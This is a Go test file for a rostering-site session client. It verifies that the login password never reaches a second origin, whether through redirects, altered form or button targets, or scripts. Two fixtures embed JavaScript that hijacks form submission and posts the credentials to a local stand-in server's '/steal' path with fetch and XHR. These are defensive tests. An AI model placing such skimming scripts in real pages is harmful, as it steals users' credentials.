package session_test

import (
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/rosteron/rosteron/mockserver"
	"github.com/rosteron/rosteron/session"
)

// otherSite is a second loopback server, another origin (another port),
// that records every request it gets, body and all.
type otherSite struct {
	ts   *httptest.Server
	mu   sync.Mutex
	seen []string // method, URL and body of each request
}

func newOtherSite(t *testing.T) *otherSite {
	o := &otherSite{}
	o.ts = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		o.mu.Lock()
		o.seen = append(o.seen, r.Method+" "+r.URL.String()+"\n"+string(body))
		o.mu.Unlock()
		// A page that looks like RosterOn's login page.
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, loginPage(`action="/Account/Login"`, "", ""))
	}))
	t.Cleanup(o.ts.Close)
	return o
}

// assertNoPassword checks the other site never got the password, in a
// body or in a URL.
func (o *otherSite) assertNoPassword(t *testing.T, password string) {
	t.Helper()
	o.mu.Lock()
	defer o.mu.Unlock()
	for _, s := range o.seen {
		assert.NotContains(t, s, password, "the other origin got the password")
	}
}

const testPassword = "s3cret-Pa55word"

// loginPage is a RosterOn-like login page: formAttr goes in the form's
// tag, buttonAttr in its button's, and script after the form.
func loginPage(formAttr, buttonAttr, script string) string {
	return `<!DOCTYPE html><html><head><title>Log in</title></head><body>
<div data-role="page" id="account-login"><div data-role="content">
<form method="post" ` + formAttr + `>
<input name="UserName" type="text"><input name="Password" type="password">
<button id="loginButton" type="submit" ` + buttonAttr + `>Log in</button>
</form>` + script + `</div></div></body></html>`
}

// loginSite serves page at /Mobile/Account/Login and 404 elsewhere.
func loginSite(t *testing.T, page string) *httptest.Server {
	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/Mobile/Account/Login" || r.Method != http.MethodGet {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, page)
	}))
	t.Cleanup(ts.Close)
	return ts
}

func assertOtherOrigin(t *testing.T, err error, purpose string, configured, other *httptest.Server) {
	t.Helper()
	var bad *session.BadResponseError
	require.ErrorAs(t, err, &bad)
	assert.Equal(t, purpose, bad.Purpose)
	assert.ErrorIs(t, err, session.ErrOtherOrigin)
	assert.ErrorIs(t, err, session.ErrRosterOn)
	assert.False(t, bad.Timeout(), "stopped at once, not by the deadline: %v", err)
	assert.Contains(t, err.Error(), strings.TrimPrefix(configured.URL, "http://"), "names the configured host")
	assert.Contains(t, err.Error(), strings.TrimPrefix(other.URL, "http://"), "names the host found")
	assert.NotContains(t, err.Error(), testPassword)
	assert.False(t, session.Outage(err), "another origin is an answer, not an outage")
}

func TestPasswordGoesOnlyToTheConfiguredOrigin(t *testing.T) {
	cases := []struct {
		name string
		site func(t *testing.T, other *otherSite) *httptest.Server
		// script is whether a script of the login page sends the form:
		// only with its scripts run, as RenderAlways runs them.
		script bool
	}{
		{"every request redirects to another origin", func(t *testing.T, other *otherSite) *httptest.Server {
			ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				http.Redirect(w, r, other.ts.URL+"/Mobile/Account/Login", http.StatusFound)
			}))
			t.Cleanup(ts.Close)
			return ts
		}, false},
		{"the form's action is another origin", func(t *testing.T, other *otherSite) *httptest.Server {
			return loginSite(t, loginPage(`action="`+other.ts.URL+`/Account/Login"`, "", ""))
		}, false},
		{"the button's formaction is another origin", func(t *testing.T, other *otherSite) *httptest.Server {
			return loginSite(t, loginPage(`action="/Mobile/Account/Login"`, `formaction="`+other.ts.URL+`/Account/Login"`, ""))
		}, false},
		{"the form posts to another origin in a new window", func(t *testing.T, other *otherSite) *httptest.Server {
			return loginSite(t, loginPage(`action="`+other.ts.URL+`/Account/Login" target="_blank"`, "", ""))
		}, false},
		{"the button posts to another origin in a new window", func(t *testing.T, other *otherSite) *httptest.Server {
			return loginSite(t, `<base target="_blank">`+loginPage(`action="/Mobile/Account/Login"`, `formaction="`+other.ts.URL+`/Account/Login" formtarget="_blank"`, ""))
		}, false},
		{"the form is sent with GET to another origin", func(t *testing.T, other *otherSite) *httptest.Server {
			page := strings.Replace(loginPage(`action="`+other.ts.URL+`/Account/Login"`, "", ""), `method="post"`, `method="get"`, 1)
			return loginSite(t, page)
		}, false},
		{"a script posts the form to another origin with fetch", func(t *testing.T, other *otherSite) *httptest.Server {
			return loginSite(t, loginPage(`action="/Mobile/Account/Login"`, "", `<script>
document.querySelector('form').addEventListener('submit', e => {
	e.preventDefault();
	fetch(`+"`"+other.ts.URL+"/steal`"+`, {method: 'POST', mode: 'no-cors', body: new FormData(e.target)});
});</script>`))
		}, true},
		{"a script posts the form to another origin with XHR", func(t *testing.T, other *otherSite) *httptest.Server {
			return loginSite(t, loginPage(`action="/Mobile/Account/Login"`, "", `<script>
document.querySelector('form').addEventListener('submit', e => {
	e.preventDefault();
	const x = new XMLHttpRequest();
	x.open('POST', `+"`"+other.ts.URL+"/steal`"+`);
	x.send(new URLSearchParams(new FormData(e.target)));
});</script>`))
		}, true},
	}
	for _, c := range cases {
		for _, always := range []bool{false, true} {
			name := c.name
			if always {
				name += " (always)"
			}
			t.Run(name, func(t *testing.T) {
				other := newOtherSite(t)
				site := c.site(t, other)
				var opts []session.Option
				if always {
					opts = append(opts, session.WithRender(session.RenderAlways))
				}
				if c.script {
					opts = append(opts, session.WithRender(session.RenderAlways))
				}
				s := newSession(t, site.URL+"/Mobile", opts...)
				err := s.LogIn(ctxT(t), "joe.bloggs", testPassword)
				require.Error(t, err)
				purpose := session.PurposeHome
				if strings.HasPrefix(c.name, "every request") {
					purpose = session.PurposeLogin
				}
				assertOtherOrigin(t, err, purpose, site, other.ts)
				assert.False(t, session.Submitted(err), "the login never reached the configured site")
				other.assertNoPassword(t, testPassword)
				logs := t.TempDir()
				require.NoError(t, s.SaveLogs(logs))
				files, err := os.ReadDir(logs)
				require.NoError(t, err)
				for _, f := range files {
					data, err := os.ReadFile(filepath.Join(logs, f.Name()))
					require.NoError(t, err)
					assert.NotContains(t, string(data), testPassword, "saved log %s", f.Name())
				}
			})
		}
	}
}

// A redirect to another origin after the login page is an error too,
// on whichever step, and the session still logs out where it logged in.
func TestRedirectToAnotherOriginAfterTheLoginPage(t *testing.T) {
	steps := []struct {
		purpose string
		// redirects reports whether the request is the step's.
		redirects func(r *http.Request, base string) bool
	}{
		{session.PurposeHome, func(r *http.Request, base string) bool { return r.Method == http.MethodGet && r.URL.Path == base+"/" }},
		{session.PurposeRoster, func(r *http.Request, base string) bool { return strings.HasSuffix(r.URL.Path, "/Roster/List") }},
		{session.PurposeLogout, func(r *http.Request, base string) bool {
			return strings.HasSuffix(r.URL.Path, "/Account/Login") && r.URL.Query().Has("loggedOff")
		}},
	}
	for _, st := range steps {
		for _, always := range []bool{false, true} {
			name := st.purpose
			if always {
				name += " (always)"
			}
			t.Run(name, func(t *testing.T) {
				other := newOtherSite(t)
				m := mockserver.New()
				t.Cleanup(m.Close)
				loggedOff := false
				var mu sync.Mutex
				ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
					if strings.HasSuffix(r.URL.Path, "/Account/LogOff") {
						// Where LogOff's redirect lands, marked for the
						// logout step's case.
						mu.Lock()
						loggedOff = true
						mu.Unlock()
					}
					mu.Lock()
					after := loggedOff
					mu.Unlock()
					if after && strings.HasSuffix(r.URL.Path, "/Account/Login") {
						q := r.URL.Query()
						q.Set("loggedOff", "1")
						r.URL.RawQuery = q.Encode()
					}
					if st.redirects(r, m.BasePath()) {
						http.Redirect(w, r, other.ts.URL+"/elsewhere", http.StatusFound)
						return
					}
					m.ServeHTTP(w, r)
				}))
				t.Cleanup(ts.Close)
				var opts []session.Option
				if always {
					opts = append(opts, session.WithRender(session.RenderAlways))
				}
				s := newSession(t, ts.URL+m.BasePath(), opts...)
				ctx := ctxT(t)
				err := s.LogIn(ctx, mockserver.DemoUsername, mockserver.DemoPassword)
				if st.purpose != session.PurposeHome {
					require.NoError(t, err)
					require.Equal(t, 1, m.Sessions())
					_, err = s.GetRoster(ctx)
				}
				if st.purpose == session.PurposeLogout {
					require.NoError(t, err)
					err = s.LogOut(ctx)
				}
				assertOtherOrigin(t, err, st.purpose, ts, other.ts)
				if st.purpose == session.PurposeHome {
					assert.True(t, session.Submitted(err), "RosterOn answered the login's post before the redirect elsewhere")
				}
				_ = s.Close()
				assert.Equal(t, 0, m.Sessions(), "logged out at the configured origin")
				other.mu.Lock()
				assert.Empty(t, other.seen, "the other origin got nothing")
				other.mu.Unlock()
			})
		}
	}
}
